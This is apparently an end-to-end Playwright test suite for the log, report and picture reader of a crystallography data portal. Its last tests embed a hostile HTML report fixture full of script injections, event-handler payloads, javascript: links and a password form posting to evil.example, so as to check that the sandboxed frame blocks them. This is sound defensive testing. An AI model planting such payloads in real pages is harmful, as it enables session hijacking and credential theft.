"""Logs, reports and pictures of programs, as people read them within the page in a real browser."""

import io
import re
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, Route, expect

from .conftest import log_in_on

LogIn = Callable[..., Page]
API = "/ispyb/api/v1"
MEGABYTE = 1024 * 1024


@pytest.fixture(scope="module")
def ada(facility: str) -> Iterator[httpx.Client]:
    """The API as ada has it."""
    with httpx.Client(base_url=f"{facility}{API}") as client:
        token = client.post("/auth/login", json={"login": "ada", "password": "demo-ada"}).json()["token"]
        client.headers["Authorization"] = f"Bearer {token}"
        yield client


@pytest.fixture(scope="module")
def run(ada: httpx.Client) -> dict[str, Any]:
    """A run that left a log and a report, with its files by their endings."""
    for session in ada.get("/sessions", params={"previous": True, "limit": 20}).json()["results"]:
        results = ada.get("/processings/results", params={"sessionId": session["sessionId"]}).json()["results"]
        for found in results:
            files = ada.get(f"/processings/programs/{found['autoProcProgramId']}/attachments").json()
            by_ending = {file["fileName"].rpartition(".")[2]: file for file in files}
            if {"html", "log"} <= by_ending.keys():
                return {**found, "files": by_ending}
    raise AssertionError("no run of the demo left a log and a report")


def address_of(run: dict[str, Any], ending: str = "") -> str:
    """Where the run is opened, and one of its files is read."""
    opened = f"/collections/{run['dataCollectionIds'][0]}?run={run['autoProcProgramId']}"
    return f"{opened}&file=processing-{run['files'][ending]['autoProcProgramAttachmentId']}" if ending else opened


def test_a_log_is_read_beneath_its_line_and_found_in(log_in: LogIn, run: dict[str, Any]) -> None:
    page = log_in("ada", address_of(run))
    name = run["files"]["log"]["fileName"]
    unfold = page.get_by_test_id("run-file").get_by_role("button", name=f"Read {name}")
    expect(unfold).to_have_attribute("aria-expanded", "false")
    unfold.press("Enter")
    expect(unfold).to_have_attribute("aria-expanded", "true")
    text = page.get_by_role("region", name=name)
    expect(text).to_contain_text("Completeness [%]")
    expect(page).to_have_url(re.compile(r"file=processing-\d+"))

    reader = page.get_by_test_id("reader")
    reader.get_by_role("textbox", name=f"Find in {name}").fill("INNERSHELL")
    expect(reader.get_by_role("status")).to_have_text(re.compile(r"^1 of \d+$"))
    marked = (
        "[...CSS.highlights.get('read-here')].map(({startContainer: {data}, startOffset}) => data.slice(startOffset))"
    )
    assert page.evaluate(marked)[0].startswith("InnerShell")
    reader.get_by_role("textbox").fill("nowhere to be found")
    expect(reader.get_by_role("status")).to_have_text("not found")
    expect(reader.get_by_role("link", name="Open in a new tab")).to_have_attribute("href", re.compile("inline=true$"))

    # Arrows scroll the text that has the focus, and do not lead to another collection.
    collection = run["dataCollectionIds"][0]
    text.focus()
    page.keyboard.press("ArrowRight")
    expect(page).to_have_url(re.compile(f"/collections/{collection}\\\\?"))
    unfold.click()
    expect(text).to_have_count(0)
    expect(page).not_to_have_url(re.compile("file="))


def test_a_link_leads_to_the_file_that_was_read(log_in: LogIn, run: dict[str, Any]) -> None:
    page = log_in("ada", address_of(run, "log"))
    expect(page.get_by_test_id("read-text")).to_be_in_viewport()


def test_a_report_stands_in_a_frame(log_in: LogIn, run: dict[str, Any]) -> None:
    page = log_in("ada", address_of(run, "html"))
    frame = page.frame_locator("[data-testid=read-report]")
    expect(frame.get_by_role("heading", level=1)).to_contain_text(run["pipeline"])
    expect(frame.get_by_role("heading", level=2).first).to_contain_text("Merged")


def test_of_a_huge_log_the_end_is_read_and_the_beginning_on_request(
    log_in: LogIn, page: Page, run: dict[str, Any]
) -> None:
    lines = "".join(f"line {number}\n" for number in range(300_000)).encode()
    asked: list[str] = []

    def send(route: Route) -> None:
        wanted = route.request.headers["range"]
        asked.append(wanted)
        first, last = re.fullmatch(r"bytes=(\d*)-(\d*)", wanted).groups()  # type: ignore[union-attr]
        begin, end = (int(first), int(last) + 1) if first else (len(lines) - int(last), len(lines))
        headers = {"Content-Range": f"bytes {begin}-{end - 1}/{len(lines)}", "Content-Type": "text/plain"}
        route.fulfill(status=206, headers=headers, body=lines[begin:end])

    page.route("**/processings/attachments/*inline=true", send)
    log_in("ada", address_of(run, "log"))
    reader = page.get_by_test_id("reader")
    expect(reader).to_contain_text(re.compile(r"The last 1\s?MB of 3\.\d\s?MB"))
    text = reader.get_by_test_id("read-text")
    shown = text.inner_text()
    assert re.match(r"line \d+\n", shown)
    assert shown.endswith("line 299999\n")
    assert text.evaluate("text => text.scrollTop + text.clientHeight > text.scrollHeight - 4")
    reader.get_by_role("button", name="Show the beginning").click()
    expect(reader).to_contain_text(re.compile("The first 1"))
    assert text.inner_text().startswith("line 0\nline 1\n")
    assert text.evaluate("text => text.scrollTop") == 0
    assert asked == [f"bytes=-{MEGABYTE}", f"bytes=0-{MEGABYTE - 1}"]


def test_a_file_that_is_gone_is_said_to_be_and_tried_again(log_in: LogIn, page: Page, run: dict[str, Any]) -> None:
    gone = {
        "type": "about:blank",
        "title": "Not found",
        "status": 404,
        "detail": "The recorded file is not there any more.",
    }
    attachment = "**/processings/attachments/*inline=true"
    page.route(attachment, lambda route: route.fulfill(status=404, json=gone))
    log_in("ada", address_of(run, "html"))
    reader = page.get_by_test_id("reader")
    expect(reader.get_by_role("alert")).to_contain_text("not there any more")
    page.unroute(attachment)
    reader.get_by_role("button", name="Try again").click()
    expect(page.frame_locator("[data-testid=read-report]").get_by_role("heading", level=1)).to_be_visible()


def test_the_log_of_a_running_program_grows_while_one_reads(
    log_in: LogIn, page: Page, run: dict[str, Any], pipeline: httpx.Client
) -> None:
    lines = [f"image {number}" for number in range(100)]
    page.route(
        "**/processings/attachments/*inline=true",
        lambda route: route.fulfill(
            status=206,
            headers={"Content-Range": f"bytes 0-{len(told()) - 1}/{len(told())}", "Content-Type": "text/plain"},
            body=told(),
        ),
    )

    def told() -> str:
        return "\n".join(lines)

    of = {"dataCollectionId": run["dataCollectionIds"][0], "processingPrograms": "e2e 2.0"}
    log = {"fileType": "Log", "fileName": "e2e.log", "filePath": "/nowhere"}
    begun = pipeline.post("/processings/programs", json={**of, "processingStatus": "running", "attachments": [log]})
    program = begun.raise_for_status().json()["autoProcProgramId"]
    log_in("ada", f"/collections/{of['dataCollectionId']}?run={program}")
    page.get_by_role("button", name="Read e2e.log").click()
    expect(page.get_by_test_id("reader")).to_contain_text("Still written")
    text = page.get_by_test_id("read-text")
    expect(text).to_contain_text("image 99")
    page.get_by_role("button", name="To the end").click()
    lines.extend(f"image {number}" for number in range(100, 120))
    expect(text).to_contain_text("image 119")
    assert text.evaluate("text => text.scrollTop + text.clientHeight > text.scrollHeight - 4"), "still at its end"
    page.get_by_role("button", name="To the beginning").click()
    lines.append("image 120")
    expect(text).to_contain_text("image 120")
    assert text.evaluate("text => text.scrollTop") == 0, "where one reads"
    pipeline.patch(f"/processings/programs/{program}", json={"processingStatus": "failed"}).raise_for_status()
    expect(page.get_by_test_id("reader")).not_to_contain_text("Still written")


def test_a_picture_is_drawn_and_what_is_none_is_said_to_be(
    log_in: LogIn, page: Page, run: dict[str, Any], pipeline: httpx.Client
) -> None:
    of = {
        "dataCollectionId": run["dataCollectionIds"][0],
        "processingPrograms": "e2e 4.0",
        "processingStatus": "failed",
    }
    files = [{"fileType": "Graph", "fileName": name, "filePath": "/nowhere"} for name in ("plot.png", "torn.png")]
    ended = pipeline.post("/processings/programs", json={**of, "attachments": files}).raise_for_status()
    program = ended.json()["autoProcProgramId"]
    drawn = io.BytesIO()
    Image.new("RGB", (320, 200), "teal").save(drawn, "PNG")
    sent = [drawn.getvalue()]
    page.route(
        "**/processings/attachments/*inline=true",
        lambda route: route.fulfill(status=200, headers={"Content-Type": "image/png"}, body=sent[0]),
    )
    log_in("ada", f"/collections/{of['dataCollectionId']}?run={program}")
    page.get_by_role("button", name="Read plot.png").click()
    picture = page.get_by_test_id("reader").get_by_role("img", name="plot.png")
    expect(picture).to_be_visible()
    assert picture.evaluate("picture => [picture.naturalWidth, picture.naturalHeight]") == [320, 200]
    sent[0] = b"torn"
    page.get_by_role("button", name="Read torn.png").click()
    expect(page.get_by_test_id("reader")).to_contain_text("no picture that a browser can draw")


HOSTILE = """<!doctype html><title>Report</title><h1>Fine data</h1>
<meta http-equiv=refresh content="0;url=https://evil.example/refresh">
<link rel=stylesheet href=https://evil.example/sheet.css>
<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/paper.png) }</style>
<script>parent.postMessage('script', '*'); top.location = 'https://evil.example/script'</script>
<script src=https://evil.example/script.js></script>
<img src=https://evil.example/picture.png onerror="parent.postMessage('handler', '*')">
<svg onload="parent.postMessage('svg', '*')"></svg>
<iframe src=https://evil.example/frame></iframe>
<iframe srcdoc="<script>top.postMessage('srcdoc', '*')</script>"></iframe>
<object data=https://evil.example/object></object><embed src=https://evil.example/embed>
<form action=https://evil.example/form method=post><input name=password autofocus><button>Send</button></form>
<p><a href=https://evil.example/top target=_top>Top</a> <a href=https://evil.example/parent target=_parent>Parent</a>
<a href=javascript:parent.postMessage('link','*')>Script</a> <a href=/ target=_top>Out</a>
<a href=/>Page</a></p><p><a href=https://evil.example/here>Here</a></p>
"""


def test_a_hostile_report_does_nothing_and_tells_nobody(browser: Browser, facility: str, run: dict[str, Any]) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    reached: list[str] = []
    context.route("https://evil.example/**", lambda route: (reached.append(route.request.url), route.abort()))

    def with_its_own_headers(route: Route) -> None:
        if route.request.resource_type == "document":
            route.fulfill(response=route.fetch(), body=HOSTILE)
        else:
            route.continue_()

    page.route("**/processings/attachments/*inline=true", with_its_own_headers)
    page.add_init_script("window.told = []; window.addEventListener('message', ({data}) => window.told.push(data))")
    log_in_on(page, facility, "ada", address_of(run, "html"))
    report = page.frame_locator("[data-testid=read-report]")
    expect(report.get_by_role("heading", name="Fine data")).to_be_visible()
    before = page.url
    for link in ("Top", "Parent", "Script", "Out"):
        report.get_by_role("link", name=link, exact=True).click()
    report.get_by_role("button", name="Send").click()
    page.wait_for_timeout(500)
    expect(report.get_by_role("heading", name="Fine data")).to_be_visible()
    for link in ("Page", "Here"):  # each takes the frame elsewhere, where nothing is shown
        report.get_by_role("link", name=link, exact=True).click()
        expect(report.get_by_role("heading", name="Fine data")).to_have_count(0)
        assert page.frame_locator("[data-testid=read-report]").get_by_test_id("login-form").count() == 0
        page.reload()
        expect(report.get_by_role("heading", name="Fine data")).to_be_visible()
    assert page.url == before
    assert reached == []
    assert page.evaluate("window.told") == []
    assert len(context.pages) == 1
    context.close()


def test_a_report_stands_in_no_frame_of_another_site(
    browser: Browser, facility: str, run: dict[str, Any], ada: httpx.Client
) -> None:
    # By a signed link: for that, a browser needs no log-in, which another site would not be given.
    wanted = {"path": f"{run['files']['html']['url']}?inline=true", "method": "GET"}
    report = facility + ada.post("/user/sign", json=wanted).raise_for_status().json()["url"]
    page = browser.new_page()
    page.goto(report)
    expect(page.get_by_role("heading", level=1)).to_contain_text(run["pipeline"])
    page.route("http://elsewhere.test/", lambda route: route.fulfill(body=f'<iframe src="{report}"></iframe>'))
    page.goto("http://elsewhere.test/")
    page.wait_for_timeout(1000)
    assert page.frames[1].get_by_role("heading", level=1).count() == 0
    page.close()
